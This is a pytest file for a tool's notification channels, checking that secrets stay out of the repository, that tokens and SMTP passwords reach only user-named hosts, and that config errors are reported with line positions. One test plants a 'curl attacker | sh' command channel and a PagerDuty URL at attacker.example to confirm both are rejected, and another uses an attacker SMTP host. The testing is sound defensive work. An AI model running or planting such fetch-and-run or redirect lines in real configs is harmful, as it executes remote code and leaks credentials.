"""Channels: declared in workbench.toml, resolved on the user's side; validation with
positions; secrets and programs never taken from the repository."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.notify.helpers import cli
from workbench.model.channels import (
    PAGERDUTY_EVENTS_URL,
    CommandChannel,
    EmailChannel,
    PagerDutyChannel,
    WebhookChannel,
    env_name,
)
from workbench.notify.config import Redactor, resolve


def _validate(repo: Path) -> tuple[int, str]:
    code, out, err = cli(repo, "validate")
    return code, out + err


def test_a_secret_in_workbench_toml_is_refused_at_its_line(demo_repo: Path) -> None:
    settings = demo_repo / "workbench.toml"
    text = settings.read_text().replace(
        '[channels.pagerduty]\nkind = "pagerduty"\n',
        '[channels.pagerduty]\nkind = "pagerduty"\nrouting_key = "abcd1234efgh"\n',
    )
    settings.write_text(text)
    line = text.splitlines().index('routing_key = "abcd1234efgh"') + 1
    code, out = _validate(demo_repo)
    assert code == 1
    assert f"workbench.toml:{line}:1: error: routing_key: secrets never go in the repository" in out
    assert "WORKBENCH_CHANNEL_PAGERDUTY_ROUTING_KEY" in out and "(channel.secret)" in out
    assert "abcd1234efgh" not in out


def test_a_channel_of_an_unknown_kind_is_named_at_its_line(demo_repo: Path) -> None:
    settings = demo_repo / "workbench.toml"
    text = settings.read_text() + '\n[channels.pigeon]\nkind = "pigeon"\n'
    settings.write_text(text)
    code, out = _validate(demo_repo)
    assert code == 1
    assert "a channel needs kind = one of:" in out and "(channel.kind)" in out, out


def test_an_unknown_escalation_channel_is_reported_with_its_position(demo_repo: Path) -> None:
    contract = demo_repo / "contracts/credit-model-to-loan-decisioning.toml"
    text = contract.read_text().replace("pagerduty:loan-decisioning", "pagerdty:loan-decisioning")
    contract.write_text(text)
    line = next(i for i, t in enumerate(text.splitlines(), 1) if "pagerdty" in t)
    code, out = _validate(demo_repo)
    assert code == 1
    assert (
        f"contracts/credit-model-to-loan-decisioning.toml:{line}:1: error: channel 'pagerdty' "
        "is not declared in workbench.toml [channels]"
    ) in out
    assert "(channel.unknown)" in out


def test_a_pagerduty_channel_needs_a_target_and_people_a_declared_channel(
    demo_repo: Path,
) -> None:
    contract = demo_repo / "contracts/credit-model-to-loan-decisioning.toml"
    contract.write_text(contract.read_text().replace('"pagerduty:loan-decisioning"', '"pagerduty"'))
    settings = demo_repo / "workbench.toml"
    settings.write_text(settings.read_text().replace('people = "email"', 'people = "sms"'))
    code, out = _validate(demo_repo)
    assert code == 1
    assert "a PagerDuty channel needs a target" in out
    assert "[notify] people names channel 'sms', which [channels] does not declare" in out


def test_without_channels_the_escalation_channel_stays_free_text(demo_repo: Path) -> None:
    """A repository that does not use `workbench notify` keeps validating as before."""
    settings = demo_repo / "workbench.toml"
    text = settings.read_text()
    settings.write_text(text[: text.index("# Where `workbench notify` sends")])
    code, out = _validate(demo_repo)
    assert "channel.unknown" not in out
    code, out, err = cli(demo_repo, "notify", "--dry-run")
    assert code == 2 and "declares no [channels]" in err
    # Sending for real, as a person or as CI's JSON: the same refusal, nothing sent or
    # recorded, never a "0 delivered" success.
    before = subprocess.run(
        ["git", "-C", str(demo_repo), "rev-parse", "HEAD"], capture_output=True, text=True
    ).stdout
    for args in (["notify"], ["notify", "--json"]):
        code, out, err = cli(demo_repo, "--as", "ci.pipeline", *args)
        assert code == 2 and out == "", (args, out)
        assert "workbench.toml declares no [channels]: nothing can be sent" in err, args
    after = subprocess.run(
        ["git", "-C", str(demo_repo), "rev-parse", "HEAD"], capture_output=True, text=True
    ).stdout
    assert after == before


def test_the_user_side_wins_and_secrets_go_only_where_it_says() -> None:
    hook = WebhookChannel(kind="webhook", url="https://hooks.example/repo")
    # A token with the repository's URL: refused, the token goes nowhere.
    ch = resolve("hook", hook, "", env={env_name("hook", "token"): "t0k3n-secret"}, config={})
    assert ch.problem is not None and "refusing to send the token" in ch.problem
    assert "t0k3n-secret" not in ch.problem
    # With the user's own URL, it goes there (and the repository's is not used).
    ch = resolve(
        "hook",
        hook,
        "",
        env={env_name("hook", "token"): "t0k3n-secret"},
        config={"channels": {"hook": {"url": "https://mine.example/in"}}},
    )
    assert ch.problem is None and ch.url == "https://mine.example/in"
    assert ch.headers["Authorization"] == "Bearer t0k3n-secret"
    # SMTP credentials go only to a host the user names, and never without STARTTLS.
    mail = EmailChannel.model_validate(
        {"kind": "email", "host": "smtp.attacker.example", "from": "a@b.example"}
    )
    creds = {env_name("mail", "username"): "u", env_name("mail", "password"): "pw-secret"}
    ch = resolve("mail", mail, "", env=creds, config={})
    assert ch.problem is not None and "smtp.attacker.example" in ch.problem
    ch = resolve("mail", mail, "", env={**creds, env_name("mail", "host"): "smtp.mine"}, config={})
    assert ch.problem is None and ch.host == "smtp.mine" and ch.password == "pw-secret"
    plain = mail.model_copy(update={"starttls": False})
    ch = resolve("mail", plain, "", env={**creds, env_name("mail", "host"): "smtp.mine"}, config={})
    assert ch.problem is not None and "without TLS" in ch.problem
    # PagerDuty: the built-in endpoint unless the user names another; per-target keys.
    pd = PagerDutyChannel(kind="pagerduty")
    env = {
        env_name("pagerduty", "routing_key"): "channel-wide-key",
        env_name("pagerduty", "routing_key", "loan-decisioning"): "per-target-key",
    }
    ch = resolve("pagerduty", pd, "loan-decisioning", env=env, config={})
    assert ch.url == PAGERDUTY_EVENTS_URL and ch.routing_key == "per-target-key"
    ch = resolve("pagerduty", pd, "claims-agent", env=env, config={})
    assert ch.routing_key == "channel-wide-key"
    assert ch.redact("key=per-target-key or channel-wide-key") == "key=[secret] or [secret]"


def test_the_repository_cannot_name_a_pagerduty_url_or_a_command(demo_repo: Path) -> None:
    """Fields a commit could use to redirect a routing key or run a program do not exist."""
    settings = demo_repo / "workbench.toml"
    settings.write_text(
        settings.read_text()
        + '\n[channels.pd2]\nkind = "pagerduty"\nurl = "https://attacker.example/enqueue"\n'
        + '\n[channels.run]\nkind = "command"\ncommand = ["sh", "-c", "curl attacker | sh"]\n'
    )
    code, out = _validate(demo_repo)
    assert code == 1
    assert "unknown field 'url'" in out and "unknown field 'command'" in out


def test_a_command_channel_runs_only_what_the_user_names(tmp_path: Path) -> None:
    ch = resolve("run", CommandChannel(kind="command"), "", env={}, config={})
    assert ch.problem is not None and "WORKBENCH_CHANNEL_RUN_COMMAND" in ch.problem
    ch = resolve(
        "run",
        CommandChannel(kind="command"),
        "",
        env={},
        config={"channels": {"run": {"command": ["/usr/bin/logger", "-t", "wb"]}}},
    )
    assert ch.problem is None and ch.command == ["/usr/bin/logger", "-t", "wb"]


@pytest.mark.parametrize("secret", ["abc", ""])
def test_redactor_ignores_empty_and_refuses_nothing(secret: str) -> None:
    r = Redactor([secret])
    assert r("a text with abc in it") == (
        "a text with [secret] in it" if secret else "a text with abc in it"
    )


def test_dry_run_lists_what_is_due_and_where_it_would_go(demo_repo: Path) -> None:
    import json

    code, out, err = cli(
        demo_repo, "--now", "2026-11-27T10:00:00Z", "notify", "--dry-run", "--json"
    )
    assert code == 0, err  # a dry run only lists
    data = json.loads(out)
    kinds = sorted({d["kind"] for d in data["due"]})
    assert kinds == ["notice", "page", "weekly"]
    page = next(d for d in data["due"] if d["kind"] == "page" and d["recipient"] == "priya.nair")
    assert page["channel"] == "pagerduty" and page["target"] == "loan-decisioning"
    assert page["status"] == "new"
    assert not list(demo_repo.glob("notify/**/*.toml"))  # nothing recorded
    # --now refuses a real run: records carry the real time.
    code, _out, err = cli(demo_repo, "--now", "2026-11-27T10:00:00Z", "notify")
    assert code == 2 and "what-if" in err
